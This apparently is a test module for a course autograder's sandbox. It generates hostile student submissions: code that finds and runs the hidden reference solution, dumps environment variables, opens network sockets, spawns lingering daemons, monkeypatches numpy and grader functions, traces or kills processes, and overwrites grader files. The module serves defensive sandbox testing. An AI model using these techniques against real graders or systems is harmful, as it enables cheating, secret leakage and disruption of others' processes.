"""Submissions that try to get out of the worker: find the course's files, import a
forbidden framework behind a computed name, reach the network, outlive the worker, patch
the functions the worker relies on, leak the environment, or attack the grader itself.

Each is the reference solution (or the starter) with code added; `source(name, token)`
builds one. `token` is a string unique to a test run: the attacks that leave something
behind (a daemon, a file) mark it with the token so the test can look for it.
"""

from tests.submissions.mutants import solution_source

STARTER_FUNCTIONS = ("sigmoid", "derivative_sigmoid", "loss", "derivative_loss", "forward",
                     "backward", "update", "show_result", "show_learning_curve")

# Searches everything a worker might see for files of the course, and returns the paths.
SEARCH = '''
import glob as _glob, os as _os, sys as _sys


def _course_files(name):
    """Paths of files called `name` reachable from here: up from every folder on sys.path,
    the grader package's own folder, the editable install's links, and a walk of /."""
    roots = set()
    for folder in [_os.getcwd(), _os.path.dirname(_os.path.abspath(__file__)), *_sys.path]:
        while folder and folder != "/":
            roots.add(folder)
            folder = _os.path.dirname(folder)
    grader = _sys.modules.get("grader")
    for folder in getattr(grader, "__path__", []):
        roots.add(_os.path.dirname(folder))
    links = [p for folder in _sys.path for p in _glob.glob(_os.path.join(folder, "*editable*"))]
    for link in links[:20]:
        try:
            text = open(link).read()
        except OSError:
            continue
        for word in text.replace("'", " ").replace('"', " ").split():
            if word.startswith("/"):
                roots.add(word.rstrip(",)"))
    found = []
    for root in sorted(roots):
        for relative in (name, "solution/" + name, "grader/" + name, "*/" + name):
            found += [p for p in _glob.glob(_os.path.join(root, relative))
                      if _os.path.abspath(p) != _os.path.abspath(__file__)]
    for top in ("/work", "/home", "/root", "/tmp", "/srv", "/opt", "/autograder"):
        for depth in ("", "*/", "*/*/", "*/*/*/"):
            found += _glob.glob(f"{top}/{depth}solution/{name}")
    return sorted(set(found))
'''

DELEGATES = SEARCH + '''

import importlib.util as _util


def _reference():
    for path in _course_files("backprop.py"):
        if "/solution/" in path:
            spec = _util.spec_from_file_location("_found_reference", path)
            module = _util.module_from_spec(spec)
            spec.loader.exec_module(module)
            return module
    return None


_LAB = _reference()
'''

OTHERS = '''

def _others():
    """Other submissions' copies and the stored reference values, when visible."""
    found = _glob.glob("/tmp/grading-*/submission/*.py") + _course_files("reference_values.npz")
    return [p for p in found if _os.path.abspath(p) != _os.path.abspath(__file__)]


OTHERS_FOUND = _others()
if OTHERS_FOUND:
    raise RuntimeError(f"found {OTHERS_FOUND[:3]}")
'''


def delegating_stub():
    """A stub whose every function runs the reference it finds on disk (or raises)."""
    functions = "".join(
        f"\n\ndef {name}(*args):\n"
        f"    if _LAB is None:\n        raise NotImplementedError\n"
        f"    return _LAB.{name}(*args)\n" for name in STARTER_FUNCTIONS)
    return DELEGATES + functions


def at_import(code):
    return lambda: solution_source() + "\n\n" + code.strip() + "\n"


def in_function(line, code):
    body = "".join(f"    {row}\n" for row in code.strip().splitlines())
    return lambda: solution_source().replace(line, line + body, 1)


FORWARD = "def forward(x, params):\n"
SHOW_RESULT = "def show_result(x, y, pred_y):\n"

# name -> (what the grade must be, how the source is made). Kinds of outcome:
#   "zero": total 0; "full": the attack changed nothing, the solution's marks;
#   "integrity": flagged, the checks after the patch get nothing.
ESCAPES = {
    "delegates_to_found_solution": ("zero", delegating_stub),
    "reads_other_submissions": ("full", lambda: solution_source() + SEARCH + OTHERS),
    "computed_import_at_import": ("zero", at_import(
        "import importlib\n"
        "try:\n    importlib.import_module('sc' + 'ipy')\nexcept ImportError:\n    pass")),
    "computed_import_in_forward": ("zero", in_function(FORWARD, (
        "try:\n    __import__(''.join(['to', 'rch']))\nexcept ImportError:\n    pass"))),
    "connects_to_the_network": ("full", at_import(
        "import socket\n"
        "for _address in (('127.0.0.1', PORT), ('1.1.1.1', 53)):\n"
        "    try:\n"
        "        with socket.create_connection(_address, timeout=1) as _s:\n"
        "            _s.sendall(b'TOKEN')\n"
        "    except OSError:\n"
        "        pass")),
    "daemon_outlives_worker": ("full", at_import(
        "import os\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        os.execv('/bin/sleep', ['sleep', 'TOKEN_SECONDS'])\n"
        "    os._exit(0)\n")),
    "patches_numpy": ("integrity", at_import(
        "np.allclose = lambda *a, **k: True\n"
        "np.array = lambda *a, **k: np.zeros(3)")),
    "patches_matplotlib_in_show_result": ("integrity", in_function(SHOW_RESULT, (
        "import matplotlib.axes\n"
        "matplotlib.axes.Axes.get_title = lambda self, *a, **k: 'Ground truth'"))),
    "patches_builtins_and_worker": ("integrity", at_import(
        "import builtins, sys\n"
        "builtins.sorted = lambda *a, **k: []\n"
        "_worker = sys.modules.get('grader.sandbox.worker') or sys.modules.get('__main__')\n"
        "if hasattr(_worker, 'describe'):\n"
        "    _worker.describe = lambda value: {'kind': 'none'}")),
    "leaks_the_environment": ("leak", in_function(FORWARD, (
        "import os\nraise ValueError(repr(dict(os.environ)))"))),
    # The sandbox's init: the worker is pid 1 itself, so there is none to signal or trace.
    "signals_the_sandbox_init": ("full", at_import(
        "import os, signal\n"
        "if os.path.exists('/proc/1/cmdline'):\n"
        "    _init = open('/proc/1/cmdline', 'rb').read()\n"
        "    if b'entry.py' not in _init:\n"
        "        raise RuntimeError(f'another process is init: {_init!r}')\n"
        "for _signal in (signal.SIGSTOP, signal.SIGKILL):\n"
        "    try:\n        os.kill(1, _signal)\n    except OSError:\n        pass")),
    # A process of its own (no guard there) tries to trace or read the worker, which is
    # the sandbox's pid 1: the worker is not dumpable, so neither works.
    "traces_from_a_child": ("full", at_import(
        "import os, subprocess, sys\n"
        "_probe = ('import ctypes, sys\\n'\n"
        "          'libc = ctypes.CDLL(None, use_errno=True)\\n'\n"
        "          'hits = []\\n'\n"
        "          'for pid in {1, int(sys.argv[1])}:\\n'\n"
        "          '    if libc.ptrace(16, pid, 0, 0) == 0:\\n'\n"
        "          '        hits.append(f\"ptrace {pid}\")\\n'\n"
        "          '        libc.ptrace(17, pid, 0, 0)\\n'\n"
        "          '    try:\\n'\n"
        "          '        open(f\"/proc/{pid}/mem\", \"rb\").close()\\n'\n"
        "          '        hits.append(f\"mem {pid}\")\\n'\n"
        "          '    except OSError:\\n'\n"
        "          '        pass\\n'\n"
        "          'print(\" \".join(hits))\\n')\n"
        "_found = subprocess.run([sys.executable, '-c', _probe, str(os.getpid())],\n"
        "                        capture_output=True, text=True).stdout.strip()\n"
        "if _found:\n"
        "    raise RuntimeError(f'traced or read the worker: {_found}')")),
    # Writes into every stderr it can find while running forward: none is the grader's.
    "writes_to_the_graders_stderr": ("full", in_function(FORWARD, (
        "import os, sys\n"
        "os.write(2, b'TOKEN stderr\\n')\n"
        "sys.__stderr__.write('TOKEN stderr\\n')\n"
        "for _entry in os.listdir('/proc'):\n"
        "    try:\n"
        "        with open(f'/proc/{_entry}/fd/2', 'w') as _stream:\n"
        "            _stream.write('TOKEN stderr\\n')\n"
        "    except OSError:\n"
        "        pass"))),
    # Attacks on the grader itself.
    # (Never run these two without the sandbox: they would hit the machine's processes.)
    "kills_its_parent": ("full", at_import(
        "import os, signal\n"
        "_parent = os.getppid()\n"
        "try:  # in the sandbox the worker is pid 1: it has no parent to see\n"
        "    _stat = open(f'/proc/{_parent}/stat').read()\n"
        "    _grandparent = int(_stat.rsplit(')', 1)[1].split()[1])\n"
        "except (OSError, IndexError, ValueError):\n"
        "    _grandparent = 0\n"
        "for _pid in (_parent, _grandparent):\n"
        "    for _kill in (os.kill, os.killpg):\n"
        "        try:\n"
        "            if _pid > 1:\n"
        "                _kill(os.getpgid(_pid) if _kill is os.killpg else _pid, 9)\n"
        "        except (OSError, ValueError):\n            pass")),
    "writes_into_the_output": ("full", at_import(
        "import os\n"
        "for _entry in os.listdir('/proc'):\n"
        "    try:\n"
        "        _words = open(f'/proc/{_entry}/cmdline', 'rb').read().split(b'\\0')\n"
        "    except OSError:\n        continue\n"
        "    for _flag, _value in zip(_words, _words[1:]):\n"
        "        if _flag in (b'--out', b'--figures-dir') and b'TOKEN' in _value:\n"
        "            for _name in ('grades.csv.partial', 'results.json.partial', "
        "'feedback.md', 'TOKEN'):\n"
        "                try:\n"
        "                    os.makedirs(os.path.join(os.fsdecode(_value), _name))\n"
        "                except OSError:\n                    pass")),
    "rewrites_the_solution": ("full", lambda: solution_source() + SEARCH + (
        "\nfor _path in _course_files('backprop.py'):\n"
        "    if '/solution/' in _path:\n"
        "        try:\n"
        "            open(_path, 'w').write('def sigmoid(x):\\n    return 0  # TOKEN\\n')\n"
        "        except OSError:\n            pass\n")),
    "plants_a_conftest": ("full", lambda: solution_source() + SEARCH + (
        "\nfor _path in _course_files('checks'):\n"
        "    try:\n"
        "        open(_os.path.join(_path, 'conftest.py'), 'w').write('# TOKEN\\n')\n"
        "    except OSError:\n            pass\n"
        "for _folder in getattr(_sys.modules.get('grader'), '__path__', []):\n"
        "    try:\n"
        "        open(_os.path.join(_folder, 'checks', 'conftest.py'), 'w').write('# TOKEN')\n"
        "    except OSError:\n            pass\n")),
}


# A pair graded one after the other by the same sandboxed zygote: the first leaves notes
# wherever it can write, the second fails to import if it finds one.
NOTE_PLACES = "('/tmp', '/dev/shm', '/dev', '.', '..', '../..', '/tmp/matplotlib')"
LEAVES_A_NOTE = solution_source() + f"""
import os as _os
for _folder in {NOTE_PLACES}:
    try:
        open(_os.path.join(_folder, 'note-TOKEN'), 'w').write('the answers')
    except OSError:
        pass
"""
READS_THE_NOTE = solution_source() + f"""
import os as _os
_found = [_f for _f in {NOTE_PLACES} if _os.path.exists(_os.path.join(_f, 'note-TOKEN'))]
if _found:
    raise RuntimeError(f"a note from the previous submission in {{_found}}")
"""


def source(name, token="0", port=9):
    """The escape `name` as Python source; token: a decimal string unique to the run."""
    _, make = ESCAPES[name]
    return (make().replace("TOKEN_SECONDS", f"6{token}").replace("TOKEN", f"escape{token}")
            .replace("PORT", str(port)))
